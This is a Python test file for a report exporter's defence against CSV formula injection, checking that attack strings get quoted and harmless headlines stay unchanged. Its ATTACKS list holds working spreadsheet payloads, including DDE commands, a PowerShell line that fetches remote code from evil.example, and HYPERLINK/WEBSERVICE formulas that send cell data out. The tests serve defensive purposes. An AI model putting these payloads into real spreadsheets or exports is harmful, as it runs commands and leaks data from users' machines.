"""No attack starts a formula, and no harmless text is touched."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentinel.report.cells import text_cell
from sentinel.report.columns import columns_of
from sentinel.report.csv_lines import text_cells
from sentinel.report.exports import csv_parts

BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'HYPERLINK("https://evil.example?x="&A1,"open")',
    'IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
    "2+3",
    "A1",
)
LEADS = ("", " ", "\t", "\r", "\n", "\r\n", "\x00", "\u00a0", "\ufeff", "\u200b", "\u3000", " \t \x01")
ATTACKS = (
    *(f"{sign}{body}" for sign in "=+@" for body in BODIES),
    *(f"-{body}" for body in BODIES if body != "1+1"),
    *(f"{lead}=1+1" for lead in LEADS[1:]),
    *(f"{lead}-2+3" for lead in LEADS),
    *(f"{sign}1+1" for sign in "\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u207a\u207b\u208a\u208b\u208c"),
    *(f"{lead}@SUM(A1)" for lead in ("\u00ad", "\u2060", "\u200e\u202a", "\u2003 ", "\x1f", "\x7f", "\x85")),
    "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://evil.example/?x="&A1)',
    '=IMAGE("https://evil.example/"&ENCODEURL(A1))',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IFERROR(1/0,HYPERLINK("https://evil.example"))',
    '="a"&"b"',
    "={1,2}",
    "=#REF!",
    "=TODAY()",
    "@A1",
    "@'sheet one'!A1",
    '@INDIRECT("A1")',
    "+SUM(1,2)*cmd|'/C calc'!A0",
    "+A1",
    "-SUM(A1:A2)",
    "-(1+2)",
    "-5%-A1",
    "-5% cmd|'/C calc'!A0",
    "-5 x!A1",
    "+1 SUM(A1)",
    "-3,5*2",
    "-5% fall;@SUM(A1)",
    "-5% fall;\u00a0=1+1",
    "-1+cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\u22122+3",
    "-5% (HYPERLINK)",
    "-5% fall=HYPERLINK(1)",
    "-5% fall +cmd|x",
    "-5%+A1",
    "-5%*2",
    "-1 -2",
    "-1 a!A1",
    "-1;=1+1",
    "-A1",
    "-Fed holds",
    "- Fed holds",
    "+Fed",
    "@fed",
    "= 5",
    "=",
    "-1^2",
    "-1&A1",
    "-1/2",
    "-2<3",
    "+1-555-0100",
    "-{1}",
    "-'sheet'!A1",
    '-"a"',
)
HARMLESS = (
    "",
    " ",
    "-",
    "--",
    "-0.75",
    "+0.75",
    "-5",
    "+3.2%",
    "-1,234.56",
    "-0,75",
    "-1.5e-3",
    "- 5",
    "-$5",
    "+\u20ac3bn",
    "-20bps",
    "+49 30 123456",
    "\u22125%",
    "-5% fall in copper",
    "-5% fall in copper, traders say",
    "-5% fall in copper; gold steady",
    "+0.3% q/q growth beats forecasts",
    "-0.4% year-to-date for the S&P 500",
    "+100k jobs in May: what next?",
    "-5m loss at Smith's bank",
    "-3.5%: worst day since 2020",
    "\u22120.2% month on month",
    "5% - a rise = good",
    "1+1",
    "a=b",
    "mail@example.com",
    "Profit +5% @ bank",
    "(=1+1)",
    "'=1+1'",
    "-12.5%",
    "-40°C freeze lifts gas prices",
    "-5%: copper falls",
    "-3,000 jobs at the mill",
    "+2.5pp swing in Norway",
    "-$1.2bn charge, chip maker says",
    "+7% for Tesla's shares? Not yet",
    "-4% \u2013 worst week since May",
    "-2.5% for AT&T and peers",
    "+0.25%\u2026 and then?",
    "5-year yields rise",
    "Brent -3%, WTI -4%",
    "A+ rating for Denmark",
    "C=O bonds explained",
    "Ask @fed: what is next?",
    "S&P 500 = 7,000?",
    "2+2",
    "1-1",
    "'quoted' from the start",
    "\u2013 Fed holds rates",
    "\u2014 live updates",
    "# of jobs up",
    "$5bn deal; terms open",
    "Copper: -5%",
    "O\u2019Neil \u2018quits\u2019",
    "Umsatz \u00fcber 5 Mrd. \u20ac",
    "\u80a1\u4ef7 -5%",
    "\U0001f680 to the moon",
)


def test_lists_are_long_enough_to_mean_something() -> None:
    assert len(set(ATTACKS)) >= 65
    assert len(set(HARMLESS)) >= 36


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_cell_makes_an_attack_text(attack: str) -> None:
    assert any(cell.startswith("'") for cell in text_cell(attack).split(";"))


@pytest.mark.parametrize("harmless", HARMLESS)
def test_text_cell_leaves_harmless_text_intact(harmless: str) -> None:
    assert text_cell(harmless) == harmless


@pytest.mark.parametrize("lead", LEADS)
def test_text_cell_keeps_what_an_attack_says(lead: str) -> None:
    assert text_cell(f"{lead}=1+1").lstrip("' \u00a0\ufeff\u200b\u3000") == "=1+1"


def test_text_cell_guards_what_follows_a_semicolon() -> None:
    assert text_cell('Copper;=cmd|x;"=1+1";-5% fall') == "Copper;'=cmd|x;'\"=1+1\";-5% fall"


def test_text_cell_flattens_line_breaks_and_drops_what_cannot_be_written() -> None:
    assert text_cell("one\r\ntwo\tthree\u2028four\x00\ud800") == "one two three four"


def test_text_cell_is_quick_on_long_text() -> None:
    assert text_cell("-5% " + "a-" * 50_000 + "(").startswith("'")
    assert text_cell("=" + ";" * 100_000).startswith("'")


def test_attacks_and_harmless_texts_come_back_from_a_csv_as_texts() -> None:
    texts = [*ATTACKS, *HARMLESS]
    numbers = pd.DataFrame({"title": pd.Series(texts, dtype=object), "mood": [-0.75] * len(texts)})
    content = b"".join(csv_parts(columns_of({"title": "headline", "mood": "mood"}), [numbers]))
    read = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", keep_default_na=False, dtype={"title": str})
    assert read["mood"].tolist() == [-0.75] * len(texts)
    assert read["title"].tolist() == [text_cell(text) for text in texts]
    assert read["title"].tolist()[len(ATTACKS) :] == list(HARMLESS)
    assert all(cell.startswith("'") or ";'" in cell for cell in read["title"][: len(ATTACKS)])
    assert content.count(b"\r\n") == len(texts) + 1


@given(st.text())
def test_text_cells_are_one_line_and_begin_no_formula(text: str) -> None:
    (cell,) = text_cells(pd.Series([text], dtype=object)).to_pylist()
    assert cell == text_cell(text)
    assert not set("\n\r\t\x00") & set(cell)
    assert text_cell(cell) == cell
    assert cell[:1] not in {"=", "@"}


@given(st.lists(st.tuples(st.text(), st.text(alphabet='",;= a\r\n'), st.none() | st.floats(-1e6, 1e6)), min_size=1))
def test_csv_lines_are_what_a_row_by_row_writer_gives(rows: list[tuple[str, str, float | None]]) -> None:
    """Joined a column at a time, the lines are byte for byte those of Python's own writer."""
    titles, feeds, moods = zip(*rows, strict=True)
    frame = pd.DataFrame({"title": pd.Series(titles, dtype=object), "feed": pd.Series(feeds, dtype=object)})
    frame["mood"] = pd.Series(moods, dtype="float64") + 0.0
    told = io.StringIO(newline="")
    writer = csv.writer(told, lineterminator="\r\n")
    writer.writerow(["title", "feed", "mood"])
    for title, feed, mood in frame.itertuples(index=False, name=None):
        writer.writerow([text_cell(title), text_cell(feed), f"{mood:.2f}" if mood == mood else ""])
    content = b"".join(csv_parts(columns_of(dict.fromkeys(("title", "feed", "mood"), "any")), [frame]))
    assert content.decode("utf-8-sig") == told.getvalue()
